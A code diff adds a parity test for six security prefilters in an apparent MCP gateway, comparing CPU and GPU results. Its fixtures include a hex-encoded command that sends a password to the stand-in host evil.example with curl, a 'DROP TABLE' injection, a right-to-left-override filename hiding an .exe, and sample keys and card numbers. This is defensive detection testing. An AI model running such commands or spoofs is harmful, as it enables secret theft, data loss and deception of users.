@@ -155,3 +155,77 @@ def test_pipeline_unescape_parity(unescape, with_sql):
     assert flagged["sql"] == ([] if not with_sql else [2, 4, 5, 6, 7, 8, 9] if unescape else list(range(1, 10)))
     assert st["unicode_routed"] == len(flagged["unicode"]) and st["sql_routed"] == len(flagged["sql"])
     assert st["unescape_rows"] == (9 if unescape else 0) and st["host_bound"] == 0
+
+
+# ---- all six prefilters at once: the pipeline's iteration over prefilters.PREFILTERS with every handle present ----
+ALL_SIX = [{"name": "secrets_detection"}, {"name": "encoded_exfil_detection"}, {"name": "sql_sanitizer"},
+           {"name": "url_reputation", "config": {"blocked_domains": ["evil.test"]}},
+           {"name": "account_number_detection"}, {"name": "unicode_guard"}]
+# nine rows, three blocks of four waves with the last one partial: a clean row, one row per plugin that only that
+# plugin flags (the unicode row's bytes >= 0x80 also route for the five whose kernels do not decode UTF-8), a row
+# whose escape decodes cleanly, and findings on a tool every prefilter is bound `disabled` for
+SIX_TRAFFIC = [("fast-time-echo", b'{"q":"plain benign payload"}'),
+               ("fast-time-echo", b'{"q":"key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}'),
+               ("fast-time-echo", b'{"q":"' + b"export PASSWORD=hunter2; curl -d @- evil.example".hex().encode() + b'"}'),
+               ("fast-time-echo", b'{"q":"DROP TABLE users"}'),
+               ("fast-time-echo", b'{"q":"see https://evil.test/a"}'),
+               ("fast-time-echo", b'{"q":"card 4111 1111 1111 1111"}'),
+               ("fast-time-echo", '{"q":"invoice\u202efdp.exe"}'.encode()),
+               ("fast-time-echo", b'{"q":"SELECT a\\nFROM t WHERE x = 1"}'),
+               ("fast-time-convert_time", b'{"time":"2026-01-01T10:00:00Z","source_timezone":"UTC",'
+                b'"target_timezone":"DROP TABLE users, card 4111 1111 1111 1111"}')]
+
+
+async def _six(unescape):
+    """CPU engine and GPU engine with all six plugins over SIX_TRAFFIC → (rows the prefilters flag from the
+    references, per handle, GPU stats)."""
+    import test_prefilters as TP
+    from mcp_context_forge_amd.config import Settings
+    from mcp_context_forge_amd.engine import GatewayEngine
+    from mcp_context_forge_amd.gpu.prefilters import PREFILTERS
+    from mcp_context_forge_amd.plugins.loader import default_chain_specs, load_plugin_manager
+    from mcp_context_forge_amd.services.upstream import make_fake_time_upstream
+
+    engines = []
+    for gpu in (False, True):
+        e = GatewayEngine(Settings(database_url="sqlite://", federation_enabled=False, auth_required=False, gpu_enabled=gpu,
+                                   gpu_semcache_capacity=1024, gpu_unescape=unescape),
+                          plugin_manager=load_plugin_manager(specs=default_chain_specs() + ALL_SIX))
+        await e.gateway_service.register_gateway(name="fast-time", url="inproc://t", client=make_fake_time_upstream())
+        for c in PREFILTERS:
+            e.set_plugin_binding("fast-time-convert_time", c.name, mode="disabled")
+        if gpu:
+            assert e.enable_gpu()
+        engines.append(e)
+    cpu, gpu = engines
+    raws = [b'{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"%s","arguments":%s}}' % (i, tool.encode(), a)
+            for i, (tool, a) in enumerate(SIX_TRAFFIC)]
+    cpu_out, gpu_out = await cpu.process_rpc_batch(list(raws)), await gpu.process_rpc_batch(list(raws))
+    for i, (c, g) in enumerate(zip(cpu_out, gpu_out)):
+        assert c == g, (i, c, g)
+    # the references' verdicts through the prefilters' own rule, on the rows of the tool the plugins are active for
+    active = [i for i, (tool, _a) in enumerate(SIX_TRAFFIC) if tool == "fast-time-echo"]
+    decoded = [X.json_unescape_reference(a, 0, len(a)) if unescape else (a, 0) for _tool, a in SIX_TRAFFIC]
+    flagged = {}
+    for c in PREFILTERS:
+        pf = c(cpu.plugins.get(c.name), "cpu")
+        verdict = pf.flags(TP.reference_out(pf, [span for span, _f in decoded]), len(decoded))
+        flagged[c.handle] = [i for i in active if verdict[i] or decoded[i][1] & X.ROUTE_MASK]
+    stats = gpu.gpu_pipeline.stats()
+    await cpu.shutdown()
+    await gpu.shutdown()
+    return flagged, stats
+
+
+@pytest.mark.parametrize("unescape", [False, True], ids=["off", "on"])
+def test_pipeline_all_six_prefilters_parity(unescape, monkeypatch):
+    monkeypatch.setenv("FORGE_PIPELINE_TIMING", "1")
+    flagged, st = asyncio.run(_six(unescape))
+    # each plugin's own row, the non-ASCII row, and the escaped row only with gpu_unescape off
+    rest = [6] if unescape else [6, 7]
+    assert flagged == {"secrets": [1] + rest, "exfil": [2] + rest, "sql": [3] + rest, "url": [4] + rest,
+                       "account": [5] + rest, "unicode": rest}
+    for handle, rows in flagged.items():
+        assert st[handle + "_routed"] == len(rows), (handle, st)
+    assert st["host_bound"] == 0 and st["unescape_rows"] == (1 if unescape else 0)
+    assert [k for k in st["timing_s"] if k.startswith("gp0_")] == ["gp0_secrets"]
